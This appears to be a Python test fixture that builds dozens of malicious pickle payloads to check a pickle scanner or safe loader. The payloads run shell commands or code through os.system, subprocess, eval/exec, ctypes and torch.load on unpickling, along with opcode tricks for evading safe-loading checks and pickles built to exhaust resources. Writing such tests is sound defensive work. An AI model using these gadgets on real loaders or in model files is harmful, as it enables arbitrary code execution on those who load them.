"""Pickles that do something when they are loaded: each makes a file, or removes one, where it can."""

from __future__ import annotations

import marshal
import pickle
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

from tests.reliability.pickles import (
    PROTO4,
    Ground,
    attribute,
    call,
    contained,
    listed,
    module,
    name_of,
    partial,
    payload,
    value,
)


@dataclass(frozen=True)
class Gadget:
    """One pickle.

    Attributes:
        build: Its bytes, for a ground.
        fires: Whether a plain unpickling leaves the mark.
        slow: Whether it goes on until it is stopped.
    """

    build: Callable[[Ground], bytes]
    fires: bool = True
    slow: bool = False


def _calls() -> dict[str, Callable[[Ground], tuple[Any, ...]]]:
    """Functions that do it with constant arguments."""
    return {
        "os:system": lambda g: (g.command,),
        "posix:system": lambda g: (g.command,),
        "os:execv": lambda g: ("/bin/sh", g.shell),
        "os:spawnv": lambda g: (0, "/bin/sh", g.shell),
        "os:posix_spawn": lambda g: ("/bin/sh", g.shell, {"PATH": "/usr/bin:/bin"}),
        "os:open": lambda g: (g.mark, 0o101),
        "os:mkdir": lambda g: (g.mark,),
        "os:mkfifo": lambda g: (g.mark,),
        "os:mknod": lambda g: (g.mark,),
        "os:symlink": lambda g: (g.script, g.mark),
        "os:link": lambda g: (g.script, g.mark),
        "os:rename": lambda g: (g.victim, g.mark),
        "os:remove": lambda g: (g.victim,),
        "shutil:rmtree": lambda g: (str(g.folder / "victim"),),
        "shutil:copyfile": lambda g: (g.script, g.mark),
        "subprocess:Popen": lambda g: (g.shell,),
        "subprocess:run": lambda g: (g.shell,),
        "subprocess:call": lambda g: (g.shell,),
        "subprocess:check_output": lambda g: (g.shell,),
        "subprocess:getoutput": lambda g: (g.command,),
        "commands:getoutput": lambda g: (g.command,),
        "pty:spawn": lambda g: (g.shell,),
        "multiprocessing.util:spawnv_passfds": lambda g: (b"/bin/sh", [one.encode() for one in g.shell], ()),
        "imaplib:IMAP4_stream": lambda g: (g.command,),
        "pydoc:pipepager": lambda g: ("x", g.command),
        "torch.utils.collect_env:run": lambda g: (g.command,),
        "builtins:eval": lambda g: (g.code,),
        "builtins:exec": lambda g: (g.code,),
        "__builtin__:eval": lambda g: (g.code,),
        "runpy:run_path": lambda g: (g.script,),
        "timeit:timeit": lambda g: ("pass", g.code),
        "profile:run": lambda g: (g.code,),
        "cProfile:run": lambda g: (g.code,),
        "doctest:debug_script": lambda g: (g.code, True),
        "numpy:load": lambda g: (str(g.folder / "inner.npy"), None, True),
        "pickle:loads": lambda g: (g.nested,),
        "_pickle:loads": lambda g: (g.nested,),
        "pandas.io.pickle:read_pickle": lambda g: (g.inner,),
        "torch.storage:_load_from_bytes": lambda g: (contained("zip", g.nested),),
        "builtins:open": lambda g: (g.mark, "w"),
        "io:open": lambda g: (g.mark, "w"),
        "_io:FileIO": lambda g: (g.mark, "w"),
        "codecs:open": lambda g: (g.mark, "w"),
        "gzip:open": lambda g: (g.mark, "wb"),
        "zipfile:ZipFile": lambda g: (g.mark, "w"),
        "tarfile:open": lambda g: (g.mark, "w"),
        "shelve:open": lambda g: (g.mark,),
        "dbm.dumb:open": lambda g: (g.mark, "n"),
        "mailbox:Maildir": lambda g: (g.mark,),
        "logging:FileHandler": lambda g: (g.mark,),
        "tempfile:mkstemp": lambda g: ("", "touched", str(g.folder)),
        "urllib.request:urlretrieve": lambda g: (f"file://{g.script}", g.mark),
        "socketserver:UnixStreamServer": lambda g: (g.mark, None),
        "numpy:savetxt": lambda g: (g.mark, [1]),
        "numpy:memmap": lambda g: (g.mark, "uint8", "w+", 0, (1,)),
        "torch:save": lambda g: (1, g.mark),
        "torch.utils.cpp_extension:_get_build_directory": lambda g: (g.mark, 1),
    }


def _expressions() -> dict[str, Callable[[Ground], bytes]]:
    """Those that need more than one call."""
    return {
        "os.popen": lambda g: attribute(call("os:popen", value(g.command)), "read") + b")R",
        "webbrowser": lambda g: call(
            attribute(call("webbrowser:GenericBrowser", value("touch")), "open"), value(g.mark)
        ),
        "ctypes.CDLL": lambda g: call(attribute(call("ctypes:CDLL", value(None)), "system"), value(g.command.encode())),
        "ctypes.pythonapi": lambda g: call(
            attribute(name_of("ctypes:pythonapi"), "PyRun_SimpleString"), value(g.code.encode())
        ),
        "socket.socket": lambda g: call(attribute(call("socket:socket", value(1), value(1)), "bind"), value(g.mark)),
        "sqlite3": lambda g: call(
            attribute(call("sqlite3:connect", value(g.mark)), "execute"), value("create table t (x)")
        ),
        "compile": lambda g: call("builtins:exec", _compiled(g)),
        "__import__": lambda g: call(attribute(module("os"), "system"), value(g.command)),
        "importlib": lambda g: call(
            attribute(call("importlib:import_module", value("os")), "system"), value(g.command)
        ),
        "SourceFileLoader": lambda g: call(
            attribute(call("importlib.machinery:SourceFileLoader", value("x"), value(g.script)), "load_module")
        ),
        "a module beside the file": lambda g: name_of("touching_module:x"),
        "pkgutil.resolve_name": lambda g: call(call("pkgutil:resolve_name", value("os:system")), value(g.command)),
        "runpy._run_code": lambda g: call("runpy:_run_code", _compiled(g), value({})),
        "code": lambda g: call(attribute(call("code:InteractiveInterpreter"), "runsource"), value(g.code)),
        "bdb": lambda g: call(attribute(call("bdb:Bdb"), "run"), value(g.code)),
        "trace": lambda g: call(attribute(call("trace:Trace"), "run"), value(g.code)),
        "numpy.testing.runstring": lambda g: call("numpy.testing:runstring", value(g.code), value({})),
        "marshal and FunctionType": lambda g: call(
            call("types:FunctionType", call("marshal:loads", value(marshal.dumps(_code(g)))), value({}))
        ),
        "CodeType": lambda g: call("builtins:exec", call("types:CodeType", *map(value, _code_parts(g)))),
        "torch.load": lambda g: call(partial("torch:load", weights_only=False), value(g.inner)),
        "torch.hub": lambda g: call(partial("torch.hub:load", source="local"), value(str(g.folder)), value("x")),
        "torch.hub._import_module": lambda g: call("torch.hub:_import_module", value("x"), value(g.script)),
        "torch.UntypedStorage.from_file": lambda g: call(
            attribute(name_of("torch:UntypedStorage"), "from_file"), value(g.mark), value(True), value(8)
        ),
        "add_safe_globals": lambda g: (
            call("torch.serialization:add_safe_globals", listed(name_of("os:system"))) + b"0" + _system(g)
        ),
        "pathlib": lambda g: call(attribute(call("pathlib:PosixPath", value(g.mark)), "touch")),
        "write_text": lambda g: call(attribute(call("pathlib:Path", value(g.mark)), "write_text"), value("x")),
        "tofile": lambda g: call(attribute(call("numpy:zeros", value(1)), "tofile"), value(g.mark)),
        "partial": lambda g: call(call("functools:partial", name_of("os:system"), value(g.command))),
        "reduce": lambda g: call(
            call("functools:reduce", name_of("builtins:getattr"), listed(module("os"), value("system"))),
            value(g.command),
        ),
        "methodcaller": lambda g: call(call("operator:methodcaller", value("system"), value(g.command)), module("os")),
        "attrgetter": lambda g: call(
            call(call("operator:attrgetter", value("system")), module("os")), value(g.command)
        ),
        "operator.call": lambda g: call("operator:call", name_of("os:system"), value(g.command)),
        "map": lambda g: call("builtins:list", call("builtins:map", name_of("os:system"), value([g.command]))),
        "starmap": lambda g: call(
            "collections:deque", call("itertools:starmap", name_of("os:system"), value([(g.command,)]))
        ),
        "MethodType": lambda g: call(call("types:MethodType", name_of("os:system"), value(g.command))),
        "Thread": lambda g: call(
            attribute(
                call("threading:Thread", value(None), name_of("os:system"), value(None), value((g.command,))), "run"
            )
        ),
        "atexit": lambda g: (
            call("atexit:register", name_of("os:system"), value(g.command)) + b"0" + call("atexit:_run_exitfuncs")
        ),
        "_reconstructor": lambda g: (
            call("copyreg:_reconstructor", name_of("builtins:object"), name_of("builtins:object"), b"N")
            + b"0"
            + _system(g)
        ),
        "_rebuild_from_type_v2": lambda g: call(
            "torch._tensor:_rebuild_from_type_v2",
            name_of("os:system"),
            name_of("torch:Tensor"),
            value((g.command,)),
            value({}),
        ),
        "inside a dictionary of tensors": lambda g: (
            b"}(" + value("layer.lora_A.weight") + call("torch:zeros", value(2)) + value("b") + _system(g) + b"u"
        ),
        "as a key": lambda g: b"}" + _system(g) + value(1) + b"s",
        "in a set": lambda g: b"\x8f(" + _system(g) + b"\x90",
    }


def _opcodes() -> dict[str, Callable[[Ground], bytes]]:
    """One and the same call, written in other opcodes."""
    system = name_of("os:system")
    return {
        "STACK_GLOBAL": lambda g: PROTO4 + _stack_global("os", "system") + value(g.command) + b"\x85R.",
        "dotted STACK_GLOBAL": lambda g: PROTO4 + _stack_global("os", "path.os.system") + value(g.command) + b"\x85R.",
        "through a module of torch": lambda g: (
            PROTO4 + _stack_global("torch.serialization", "os.system") + value(g.command) + b"\x85R."
        ),
        "dotted GLOBAL": lambda g: PROTO4 + name_of("torch.serialization:os.system") + value(g.command) + b"\x85R.",
        "INST": lambda g: b"(" + value(g.command) + b"ios\nsystem\n.",
        "OBJ": lambda g: b"(" + system + value(g.command) + b"o.",
        "NEWOBJ_EX": lambda g: PROTO4 + partial("subprocess:call", args=g.shell) + b")R.",
        "BUILD": lambda g: payload(
            call("functools:partial", name_of("builtins:int")) + (b"(" + system + value((g.command,)) + b"}Ntb") + b")R"
        ),
        "EXT1": lambda g: payload(
            call("copyreg:add_extension", value("os"), value("system"), value(241))
            + b"0\x82\xf1("
            + value(g.command)
            + b"tR"
        ),
        "memo by text": lambda g: system + b"p70\n0g70\n(" + value(g.command) + b"tR.",
        "memo by number": lambda g: payload(
            system + b"r\xff\xff\x00\x000j\xff\xff\x00\x00(" + value(g.command) + b"tR"
        ),
        "MEMOIZE": lambda g: PROTO4 + system + b"\x940h\x00(" + value(g.command) + b"tR.",
        "DUP": lambda g: payload(system + b"20(" + value(g.command) + b"tR"),
        "POP_MARK": lambda g: payload(b"(NNN1" + _system(g)),
        "after a long text": lambda g: payload(value("x" * 100_000) + b"0" + _system(g)),
        "after numbers": lambda g: b"I12\n0F1.5\n0L99L\n0" + _system(g) + b".",
        "without PROTO": lambda g: _system(g) + b".",
        **{f"protocol {number}": _protocol(number) for number in range(6)},
    }


def _harmless() -> dict[str, Gadget]:
    """What leaves no mark even when it is loaded plainly, but is not to be met with a crash either."""
    doubled = b")" + b"q\x00h\x00\x86" * 40
    found = {
        "nt.system": lambda g: payload(call("nt:system", value(g.command))),
        "NEWOBJ of Popen": lambda g: payload(name_of("subprocess:Popen") + value((g.shell,)) + b"\x81"),
        "pdb.run": lambda g: payload(call("pdb:run", value(g.code))),
        "code.interact": lambda g: payload(call("code:interact")),
        "load_library": lambda g: payload(call(attribute(name_of("torch:ops"), "load_library"), value(g.script))),
        "torch.jit.load": lambda g: payload(call("torch.jit:load", value(g.inner))),
        "joblib": lambda g: payload(call("joblib.numpy_pickle:load", value(g.inner))),
        "PERSID": lambda g: b"Pos.system\n.",
        "BINPERSID": lambda g: payload(value(("storage", g.command)) + b"Q"),
        "BINPERSID of a module": lambda g: payload(
            b"(" + value("module") + name_of("os:system") + value(g.script) + value("x") + b"tQ"
        ),
        "storage of another type": lambda g: payload(
            b"(" + value("storage") + name_of("builtins:eval") + value("0") + value("cpu") + value(1) + b"tQ"
        ),
        "storage named up the tree": lambda g: payload(
            b"(" + value("storage") + name_of("torch:FloatStorage") + value("../../x") + value("cpu") + value(1) + b"tQ"
        ),
        "tensor beyond its storage": lambda g: payload(
            call(
                "torch._utils:_rebuild_tensor_v2",
                value(g.mark),
                value(1 << 60),
                value((1 << 40,)),
                value((1,)),
                b"\x89",
                b"}",
            )
        ),
        "negative strides": lambda g: payload(
            call(
                "torch._utils:_rebuild_tensor",
                call("torch:FloatStorage", value(4)),
                value(-9),
                value((4,)),
                value((-4,)),
            )
        ),
        "lazy import by a codec": lambda g: payload(call("_codecs:encode", value("x"), value("idna"))),
        "dictionary with its own methods": lambda g: payload(
            call("collections:OrderedDict") + b"}" + value("items") + name_of("torch:Size") + b"sb"
        ),
        "BUILD of a parameter": lambda g: payload(
            name_of("torch.nn.parameter:Parameter") + b")\x81" + value({"x": 1}) + b"b"
        ),
        "an unknown protocol": lambda g: b"\x80\xff" + _system(g) + b".",
        "an unknown extension": lambda g: payload(b"\x82\xf7"),
        "a frame that lies": lambda g: PROTO4 + b"\x95" + b"\xff" * 8 + b"N.",
        "text of 2**63 bytes": lambda g: PROTO4 + b"\x8d" + b"\xff" * 7 + b"\x7fx.",
        "bytes of 2**63 bytes": lambda g: PROTO4 + b"\x8e" + b"\xff" * 7 + b"\x7fx.",
        "LONG4 of 2 GiB": lambda g: payload(b"\x8b\xff\xff\xff\x7f"),
        "a number of 100,000 digits": lambda g: b"L" + b"9" * 100_000 + b"L\n.",
        "100,000 marks": lambda g: payload(b"(" * 100_000),
        "100,000 lists in each other": lambda g: payload(b"]" * 100_001 + b"a" * 100_000),
        "100,000 tuples in each other": lambda g: payload(b")" + b"\x85" * 100_000),
        "a list in itself": lambda g: payload(b"]q\x00h\x00a"),
        "an empty stack": lambda g: payload(b"R"),
        "a memo that is not there": lambda g: payload(b"h\x07"),
        "nothing": lambda g: b"",
        "STOP alone": lambda g: b".",
        "noise": lambda g: bytes(range(256)) * 40,
    }
    slow = {"2**40 hashes": lambda g: payload(b"}" + doubled + b"Ns")}
    return {name: Gadget(build, fires=False) for name, build in found.items()} | {
        name: Gadget(build, fires=False, slow=True) for name, build in slow.items()
    }


def _calling(place: str, arguments: Callable[[Ground], tuple[Any, ...]]) -> Gadget:
    return Gadget(lambda ground: payload(call(place, *map(value, arguments(ground)))))


def _expressed(expression: Callable[[Ground], bytes]) -> Gadget:
    return Gadget(lambda ground: payload(expression(ground)))


def _system(ground: Ground) -> bytes:
    return call("os:system", value(ground.command))


def _stack_global(home: str, name: str) -> bytes:
    return b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (home, name)) + b"\x93"


class _Calling:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> Any:
        import os

        return os.system, (self._command,)


def _protocol(number: int) -> Callable[[Ground], bytes]:
    return lambda ground: pickle.dumps({"weight": _Calling(ground.command)}, protocol=number)


def _compiled(ground: Ground) -> bytes:
    return call("builtins:compile", value(ground.code), value("x"), value("exec"))


def _code(ground: Ground) -> Any:
    return compile(ground.code, "x", "exec")


def _code_parts(ground: Ground) -> list[Any]:
    """The arguments of `types.CodeType`, in its order."""
    names = """argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name
        qualname firstlineno linetable exceptiontable freevars cellvars"""
    return [getattr(_code(ground), f"co_{name}") for name in names.split()]


GADGETS: Mapping[str, Gadget] = {
    **{place.replace(":", "."): _calling(place, arguments) for place, arguments in _calls().items()},
    **{name: _expressed(expression) for name, expression in _expressions().items()},
    **{name: Gadget(build) for name, build in _opcodes().items()},
    **_harmless(),
}
"""Every gadget by its name."""
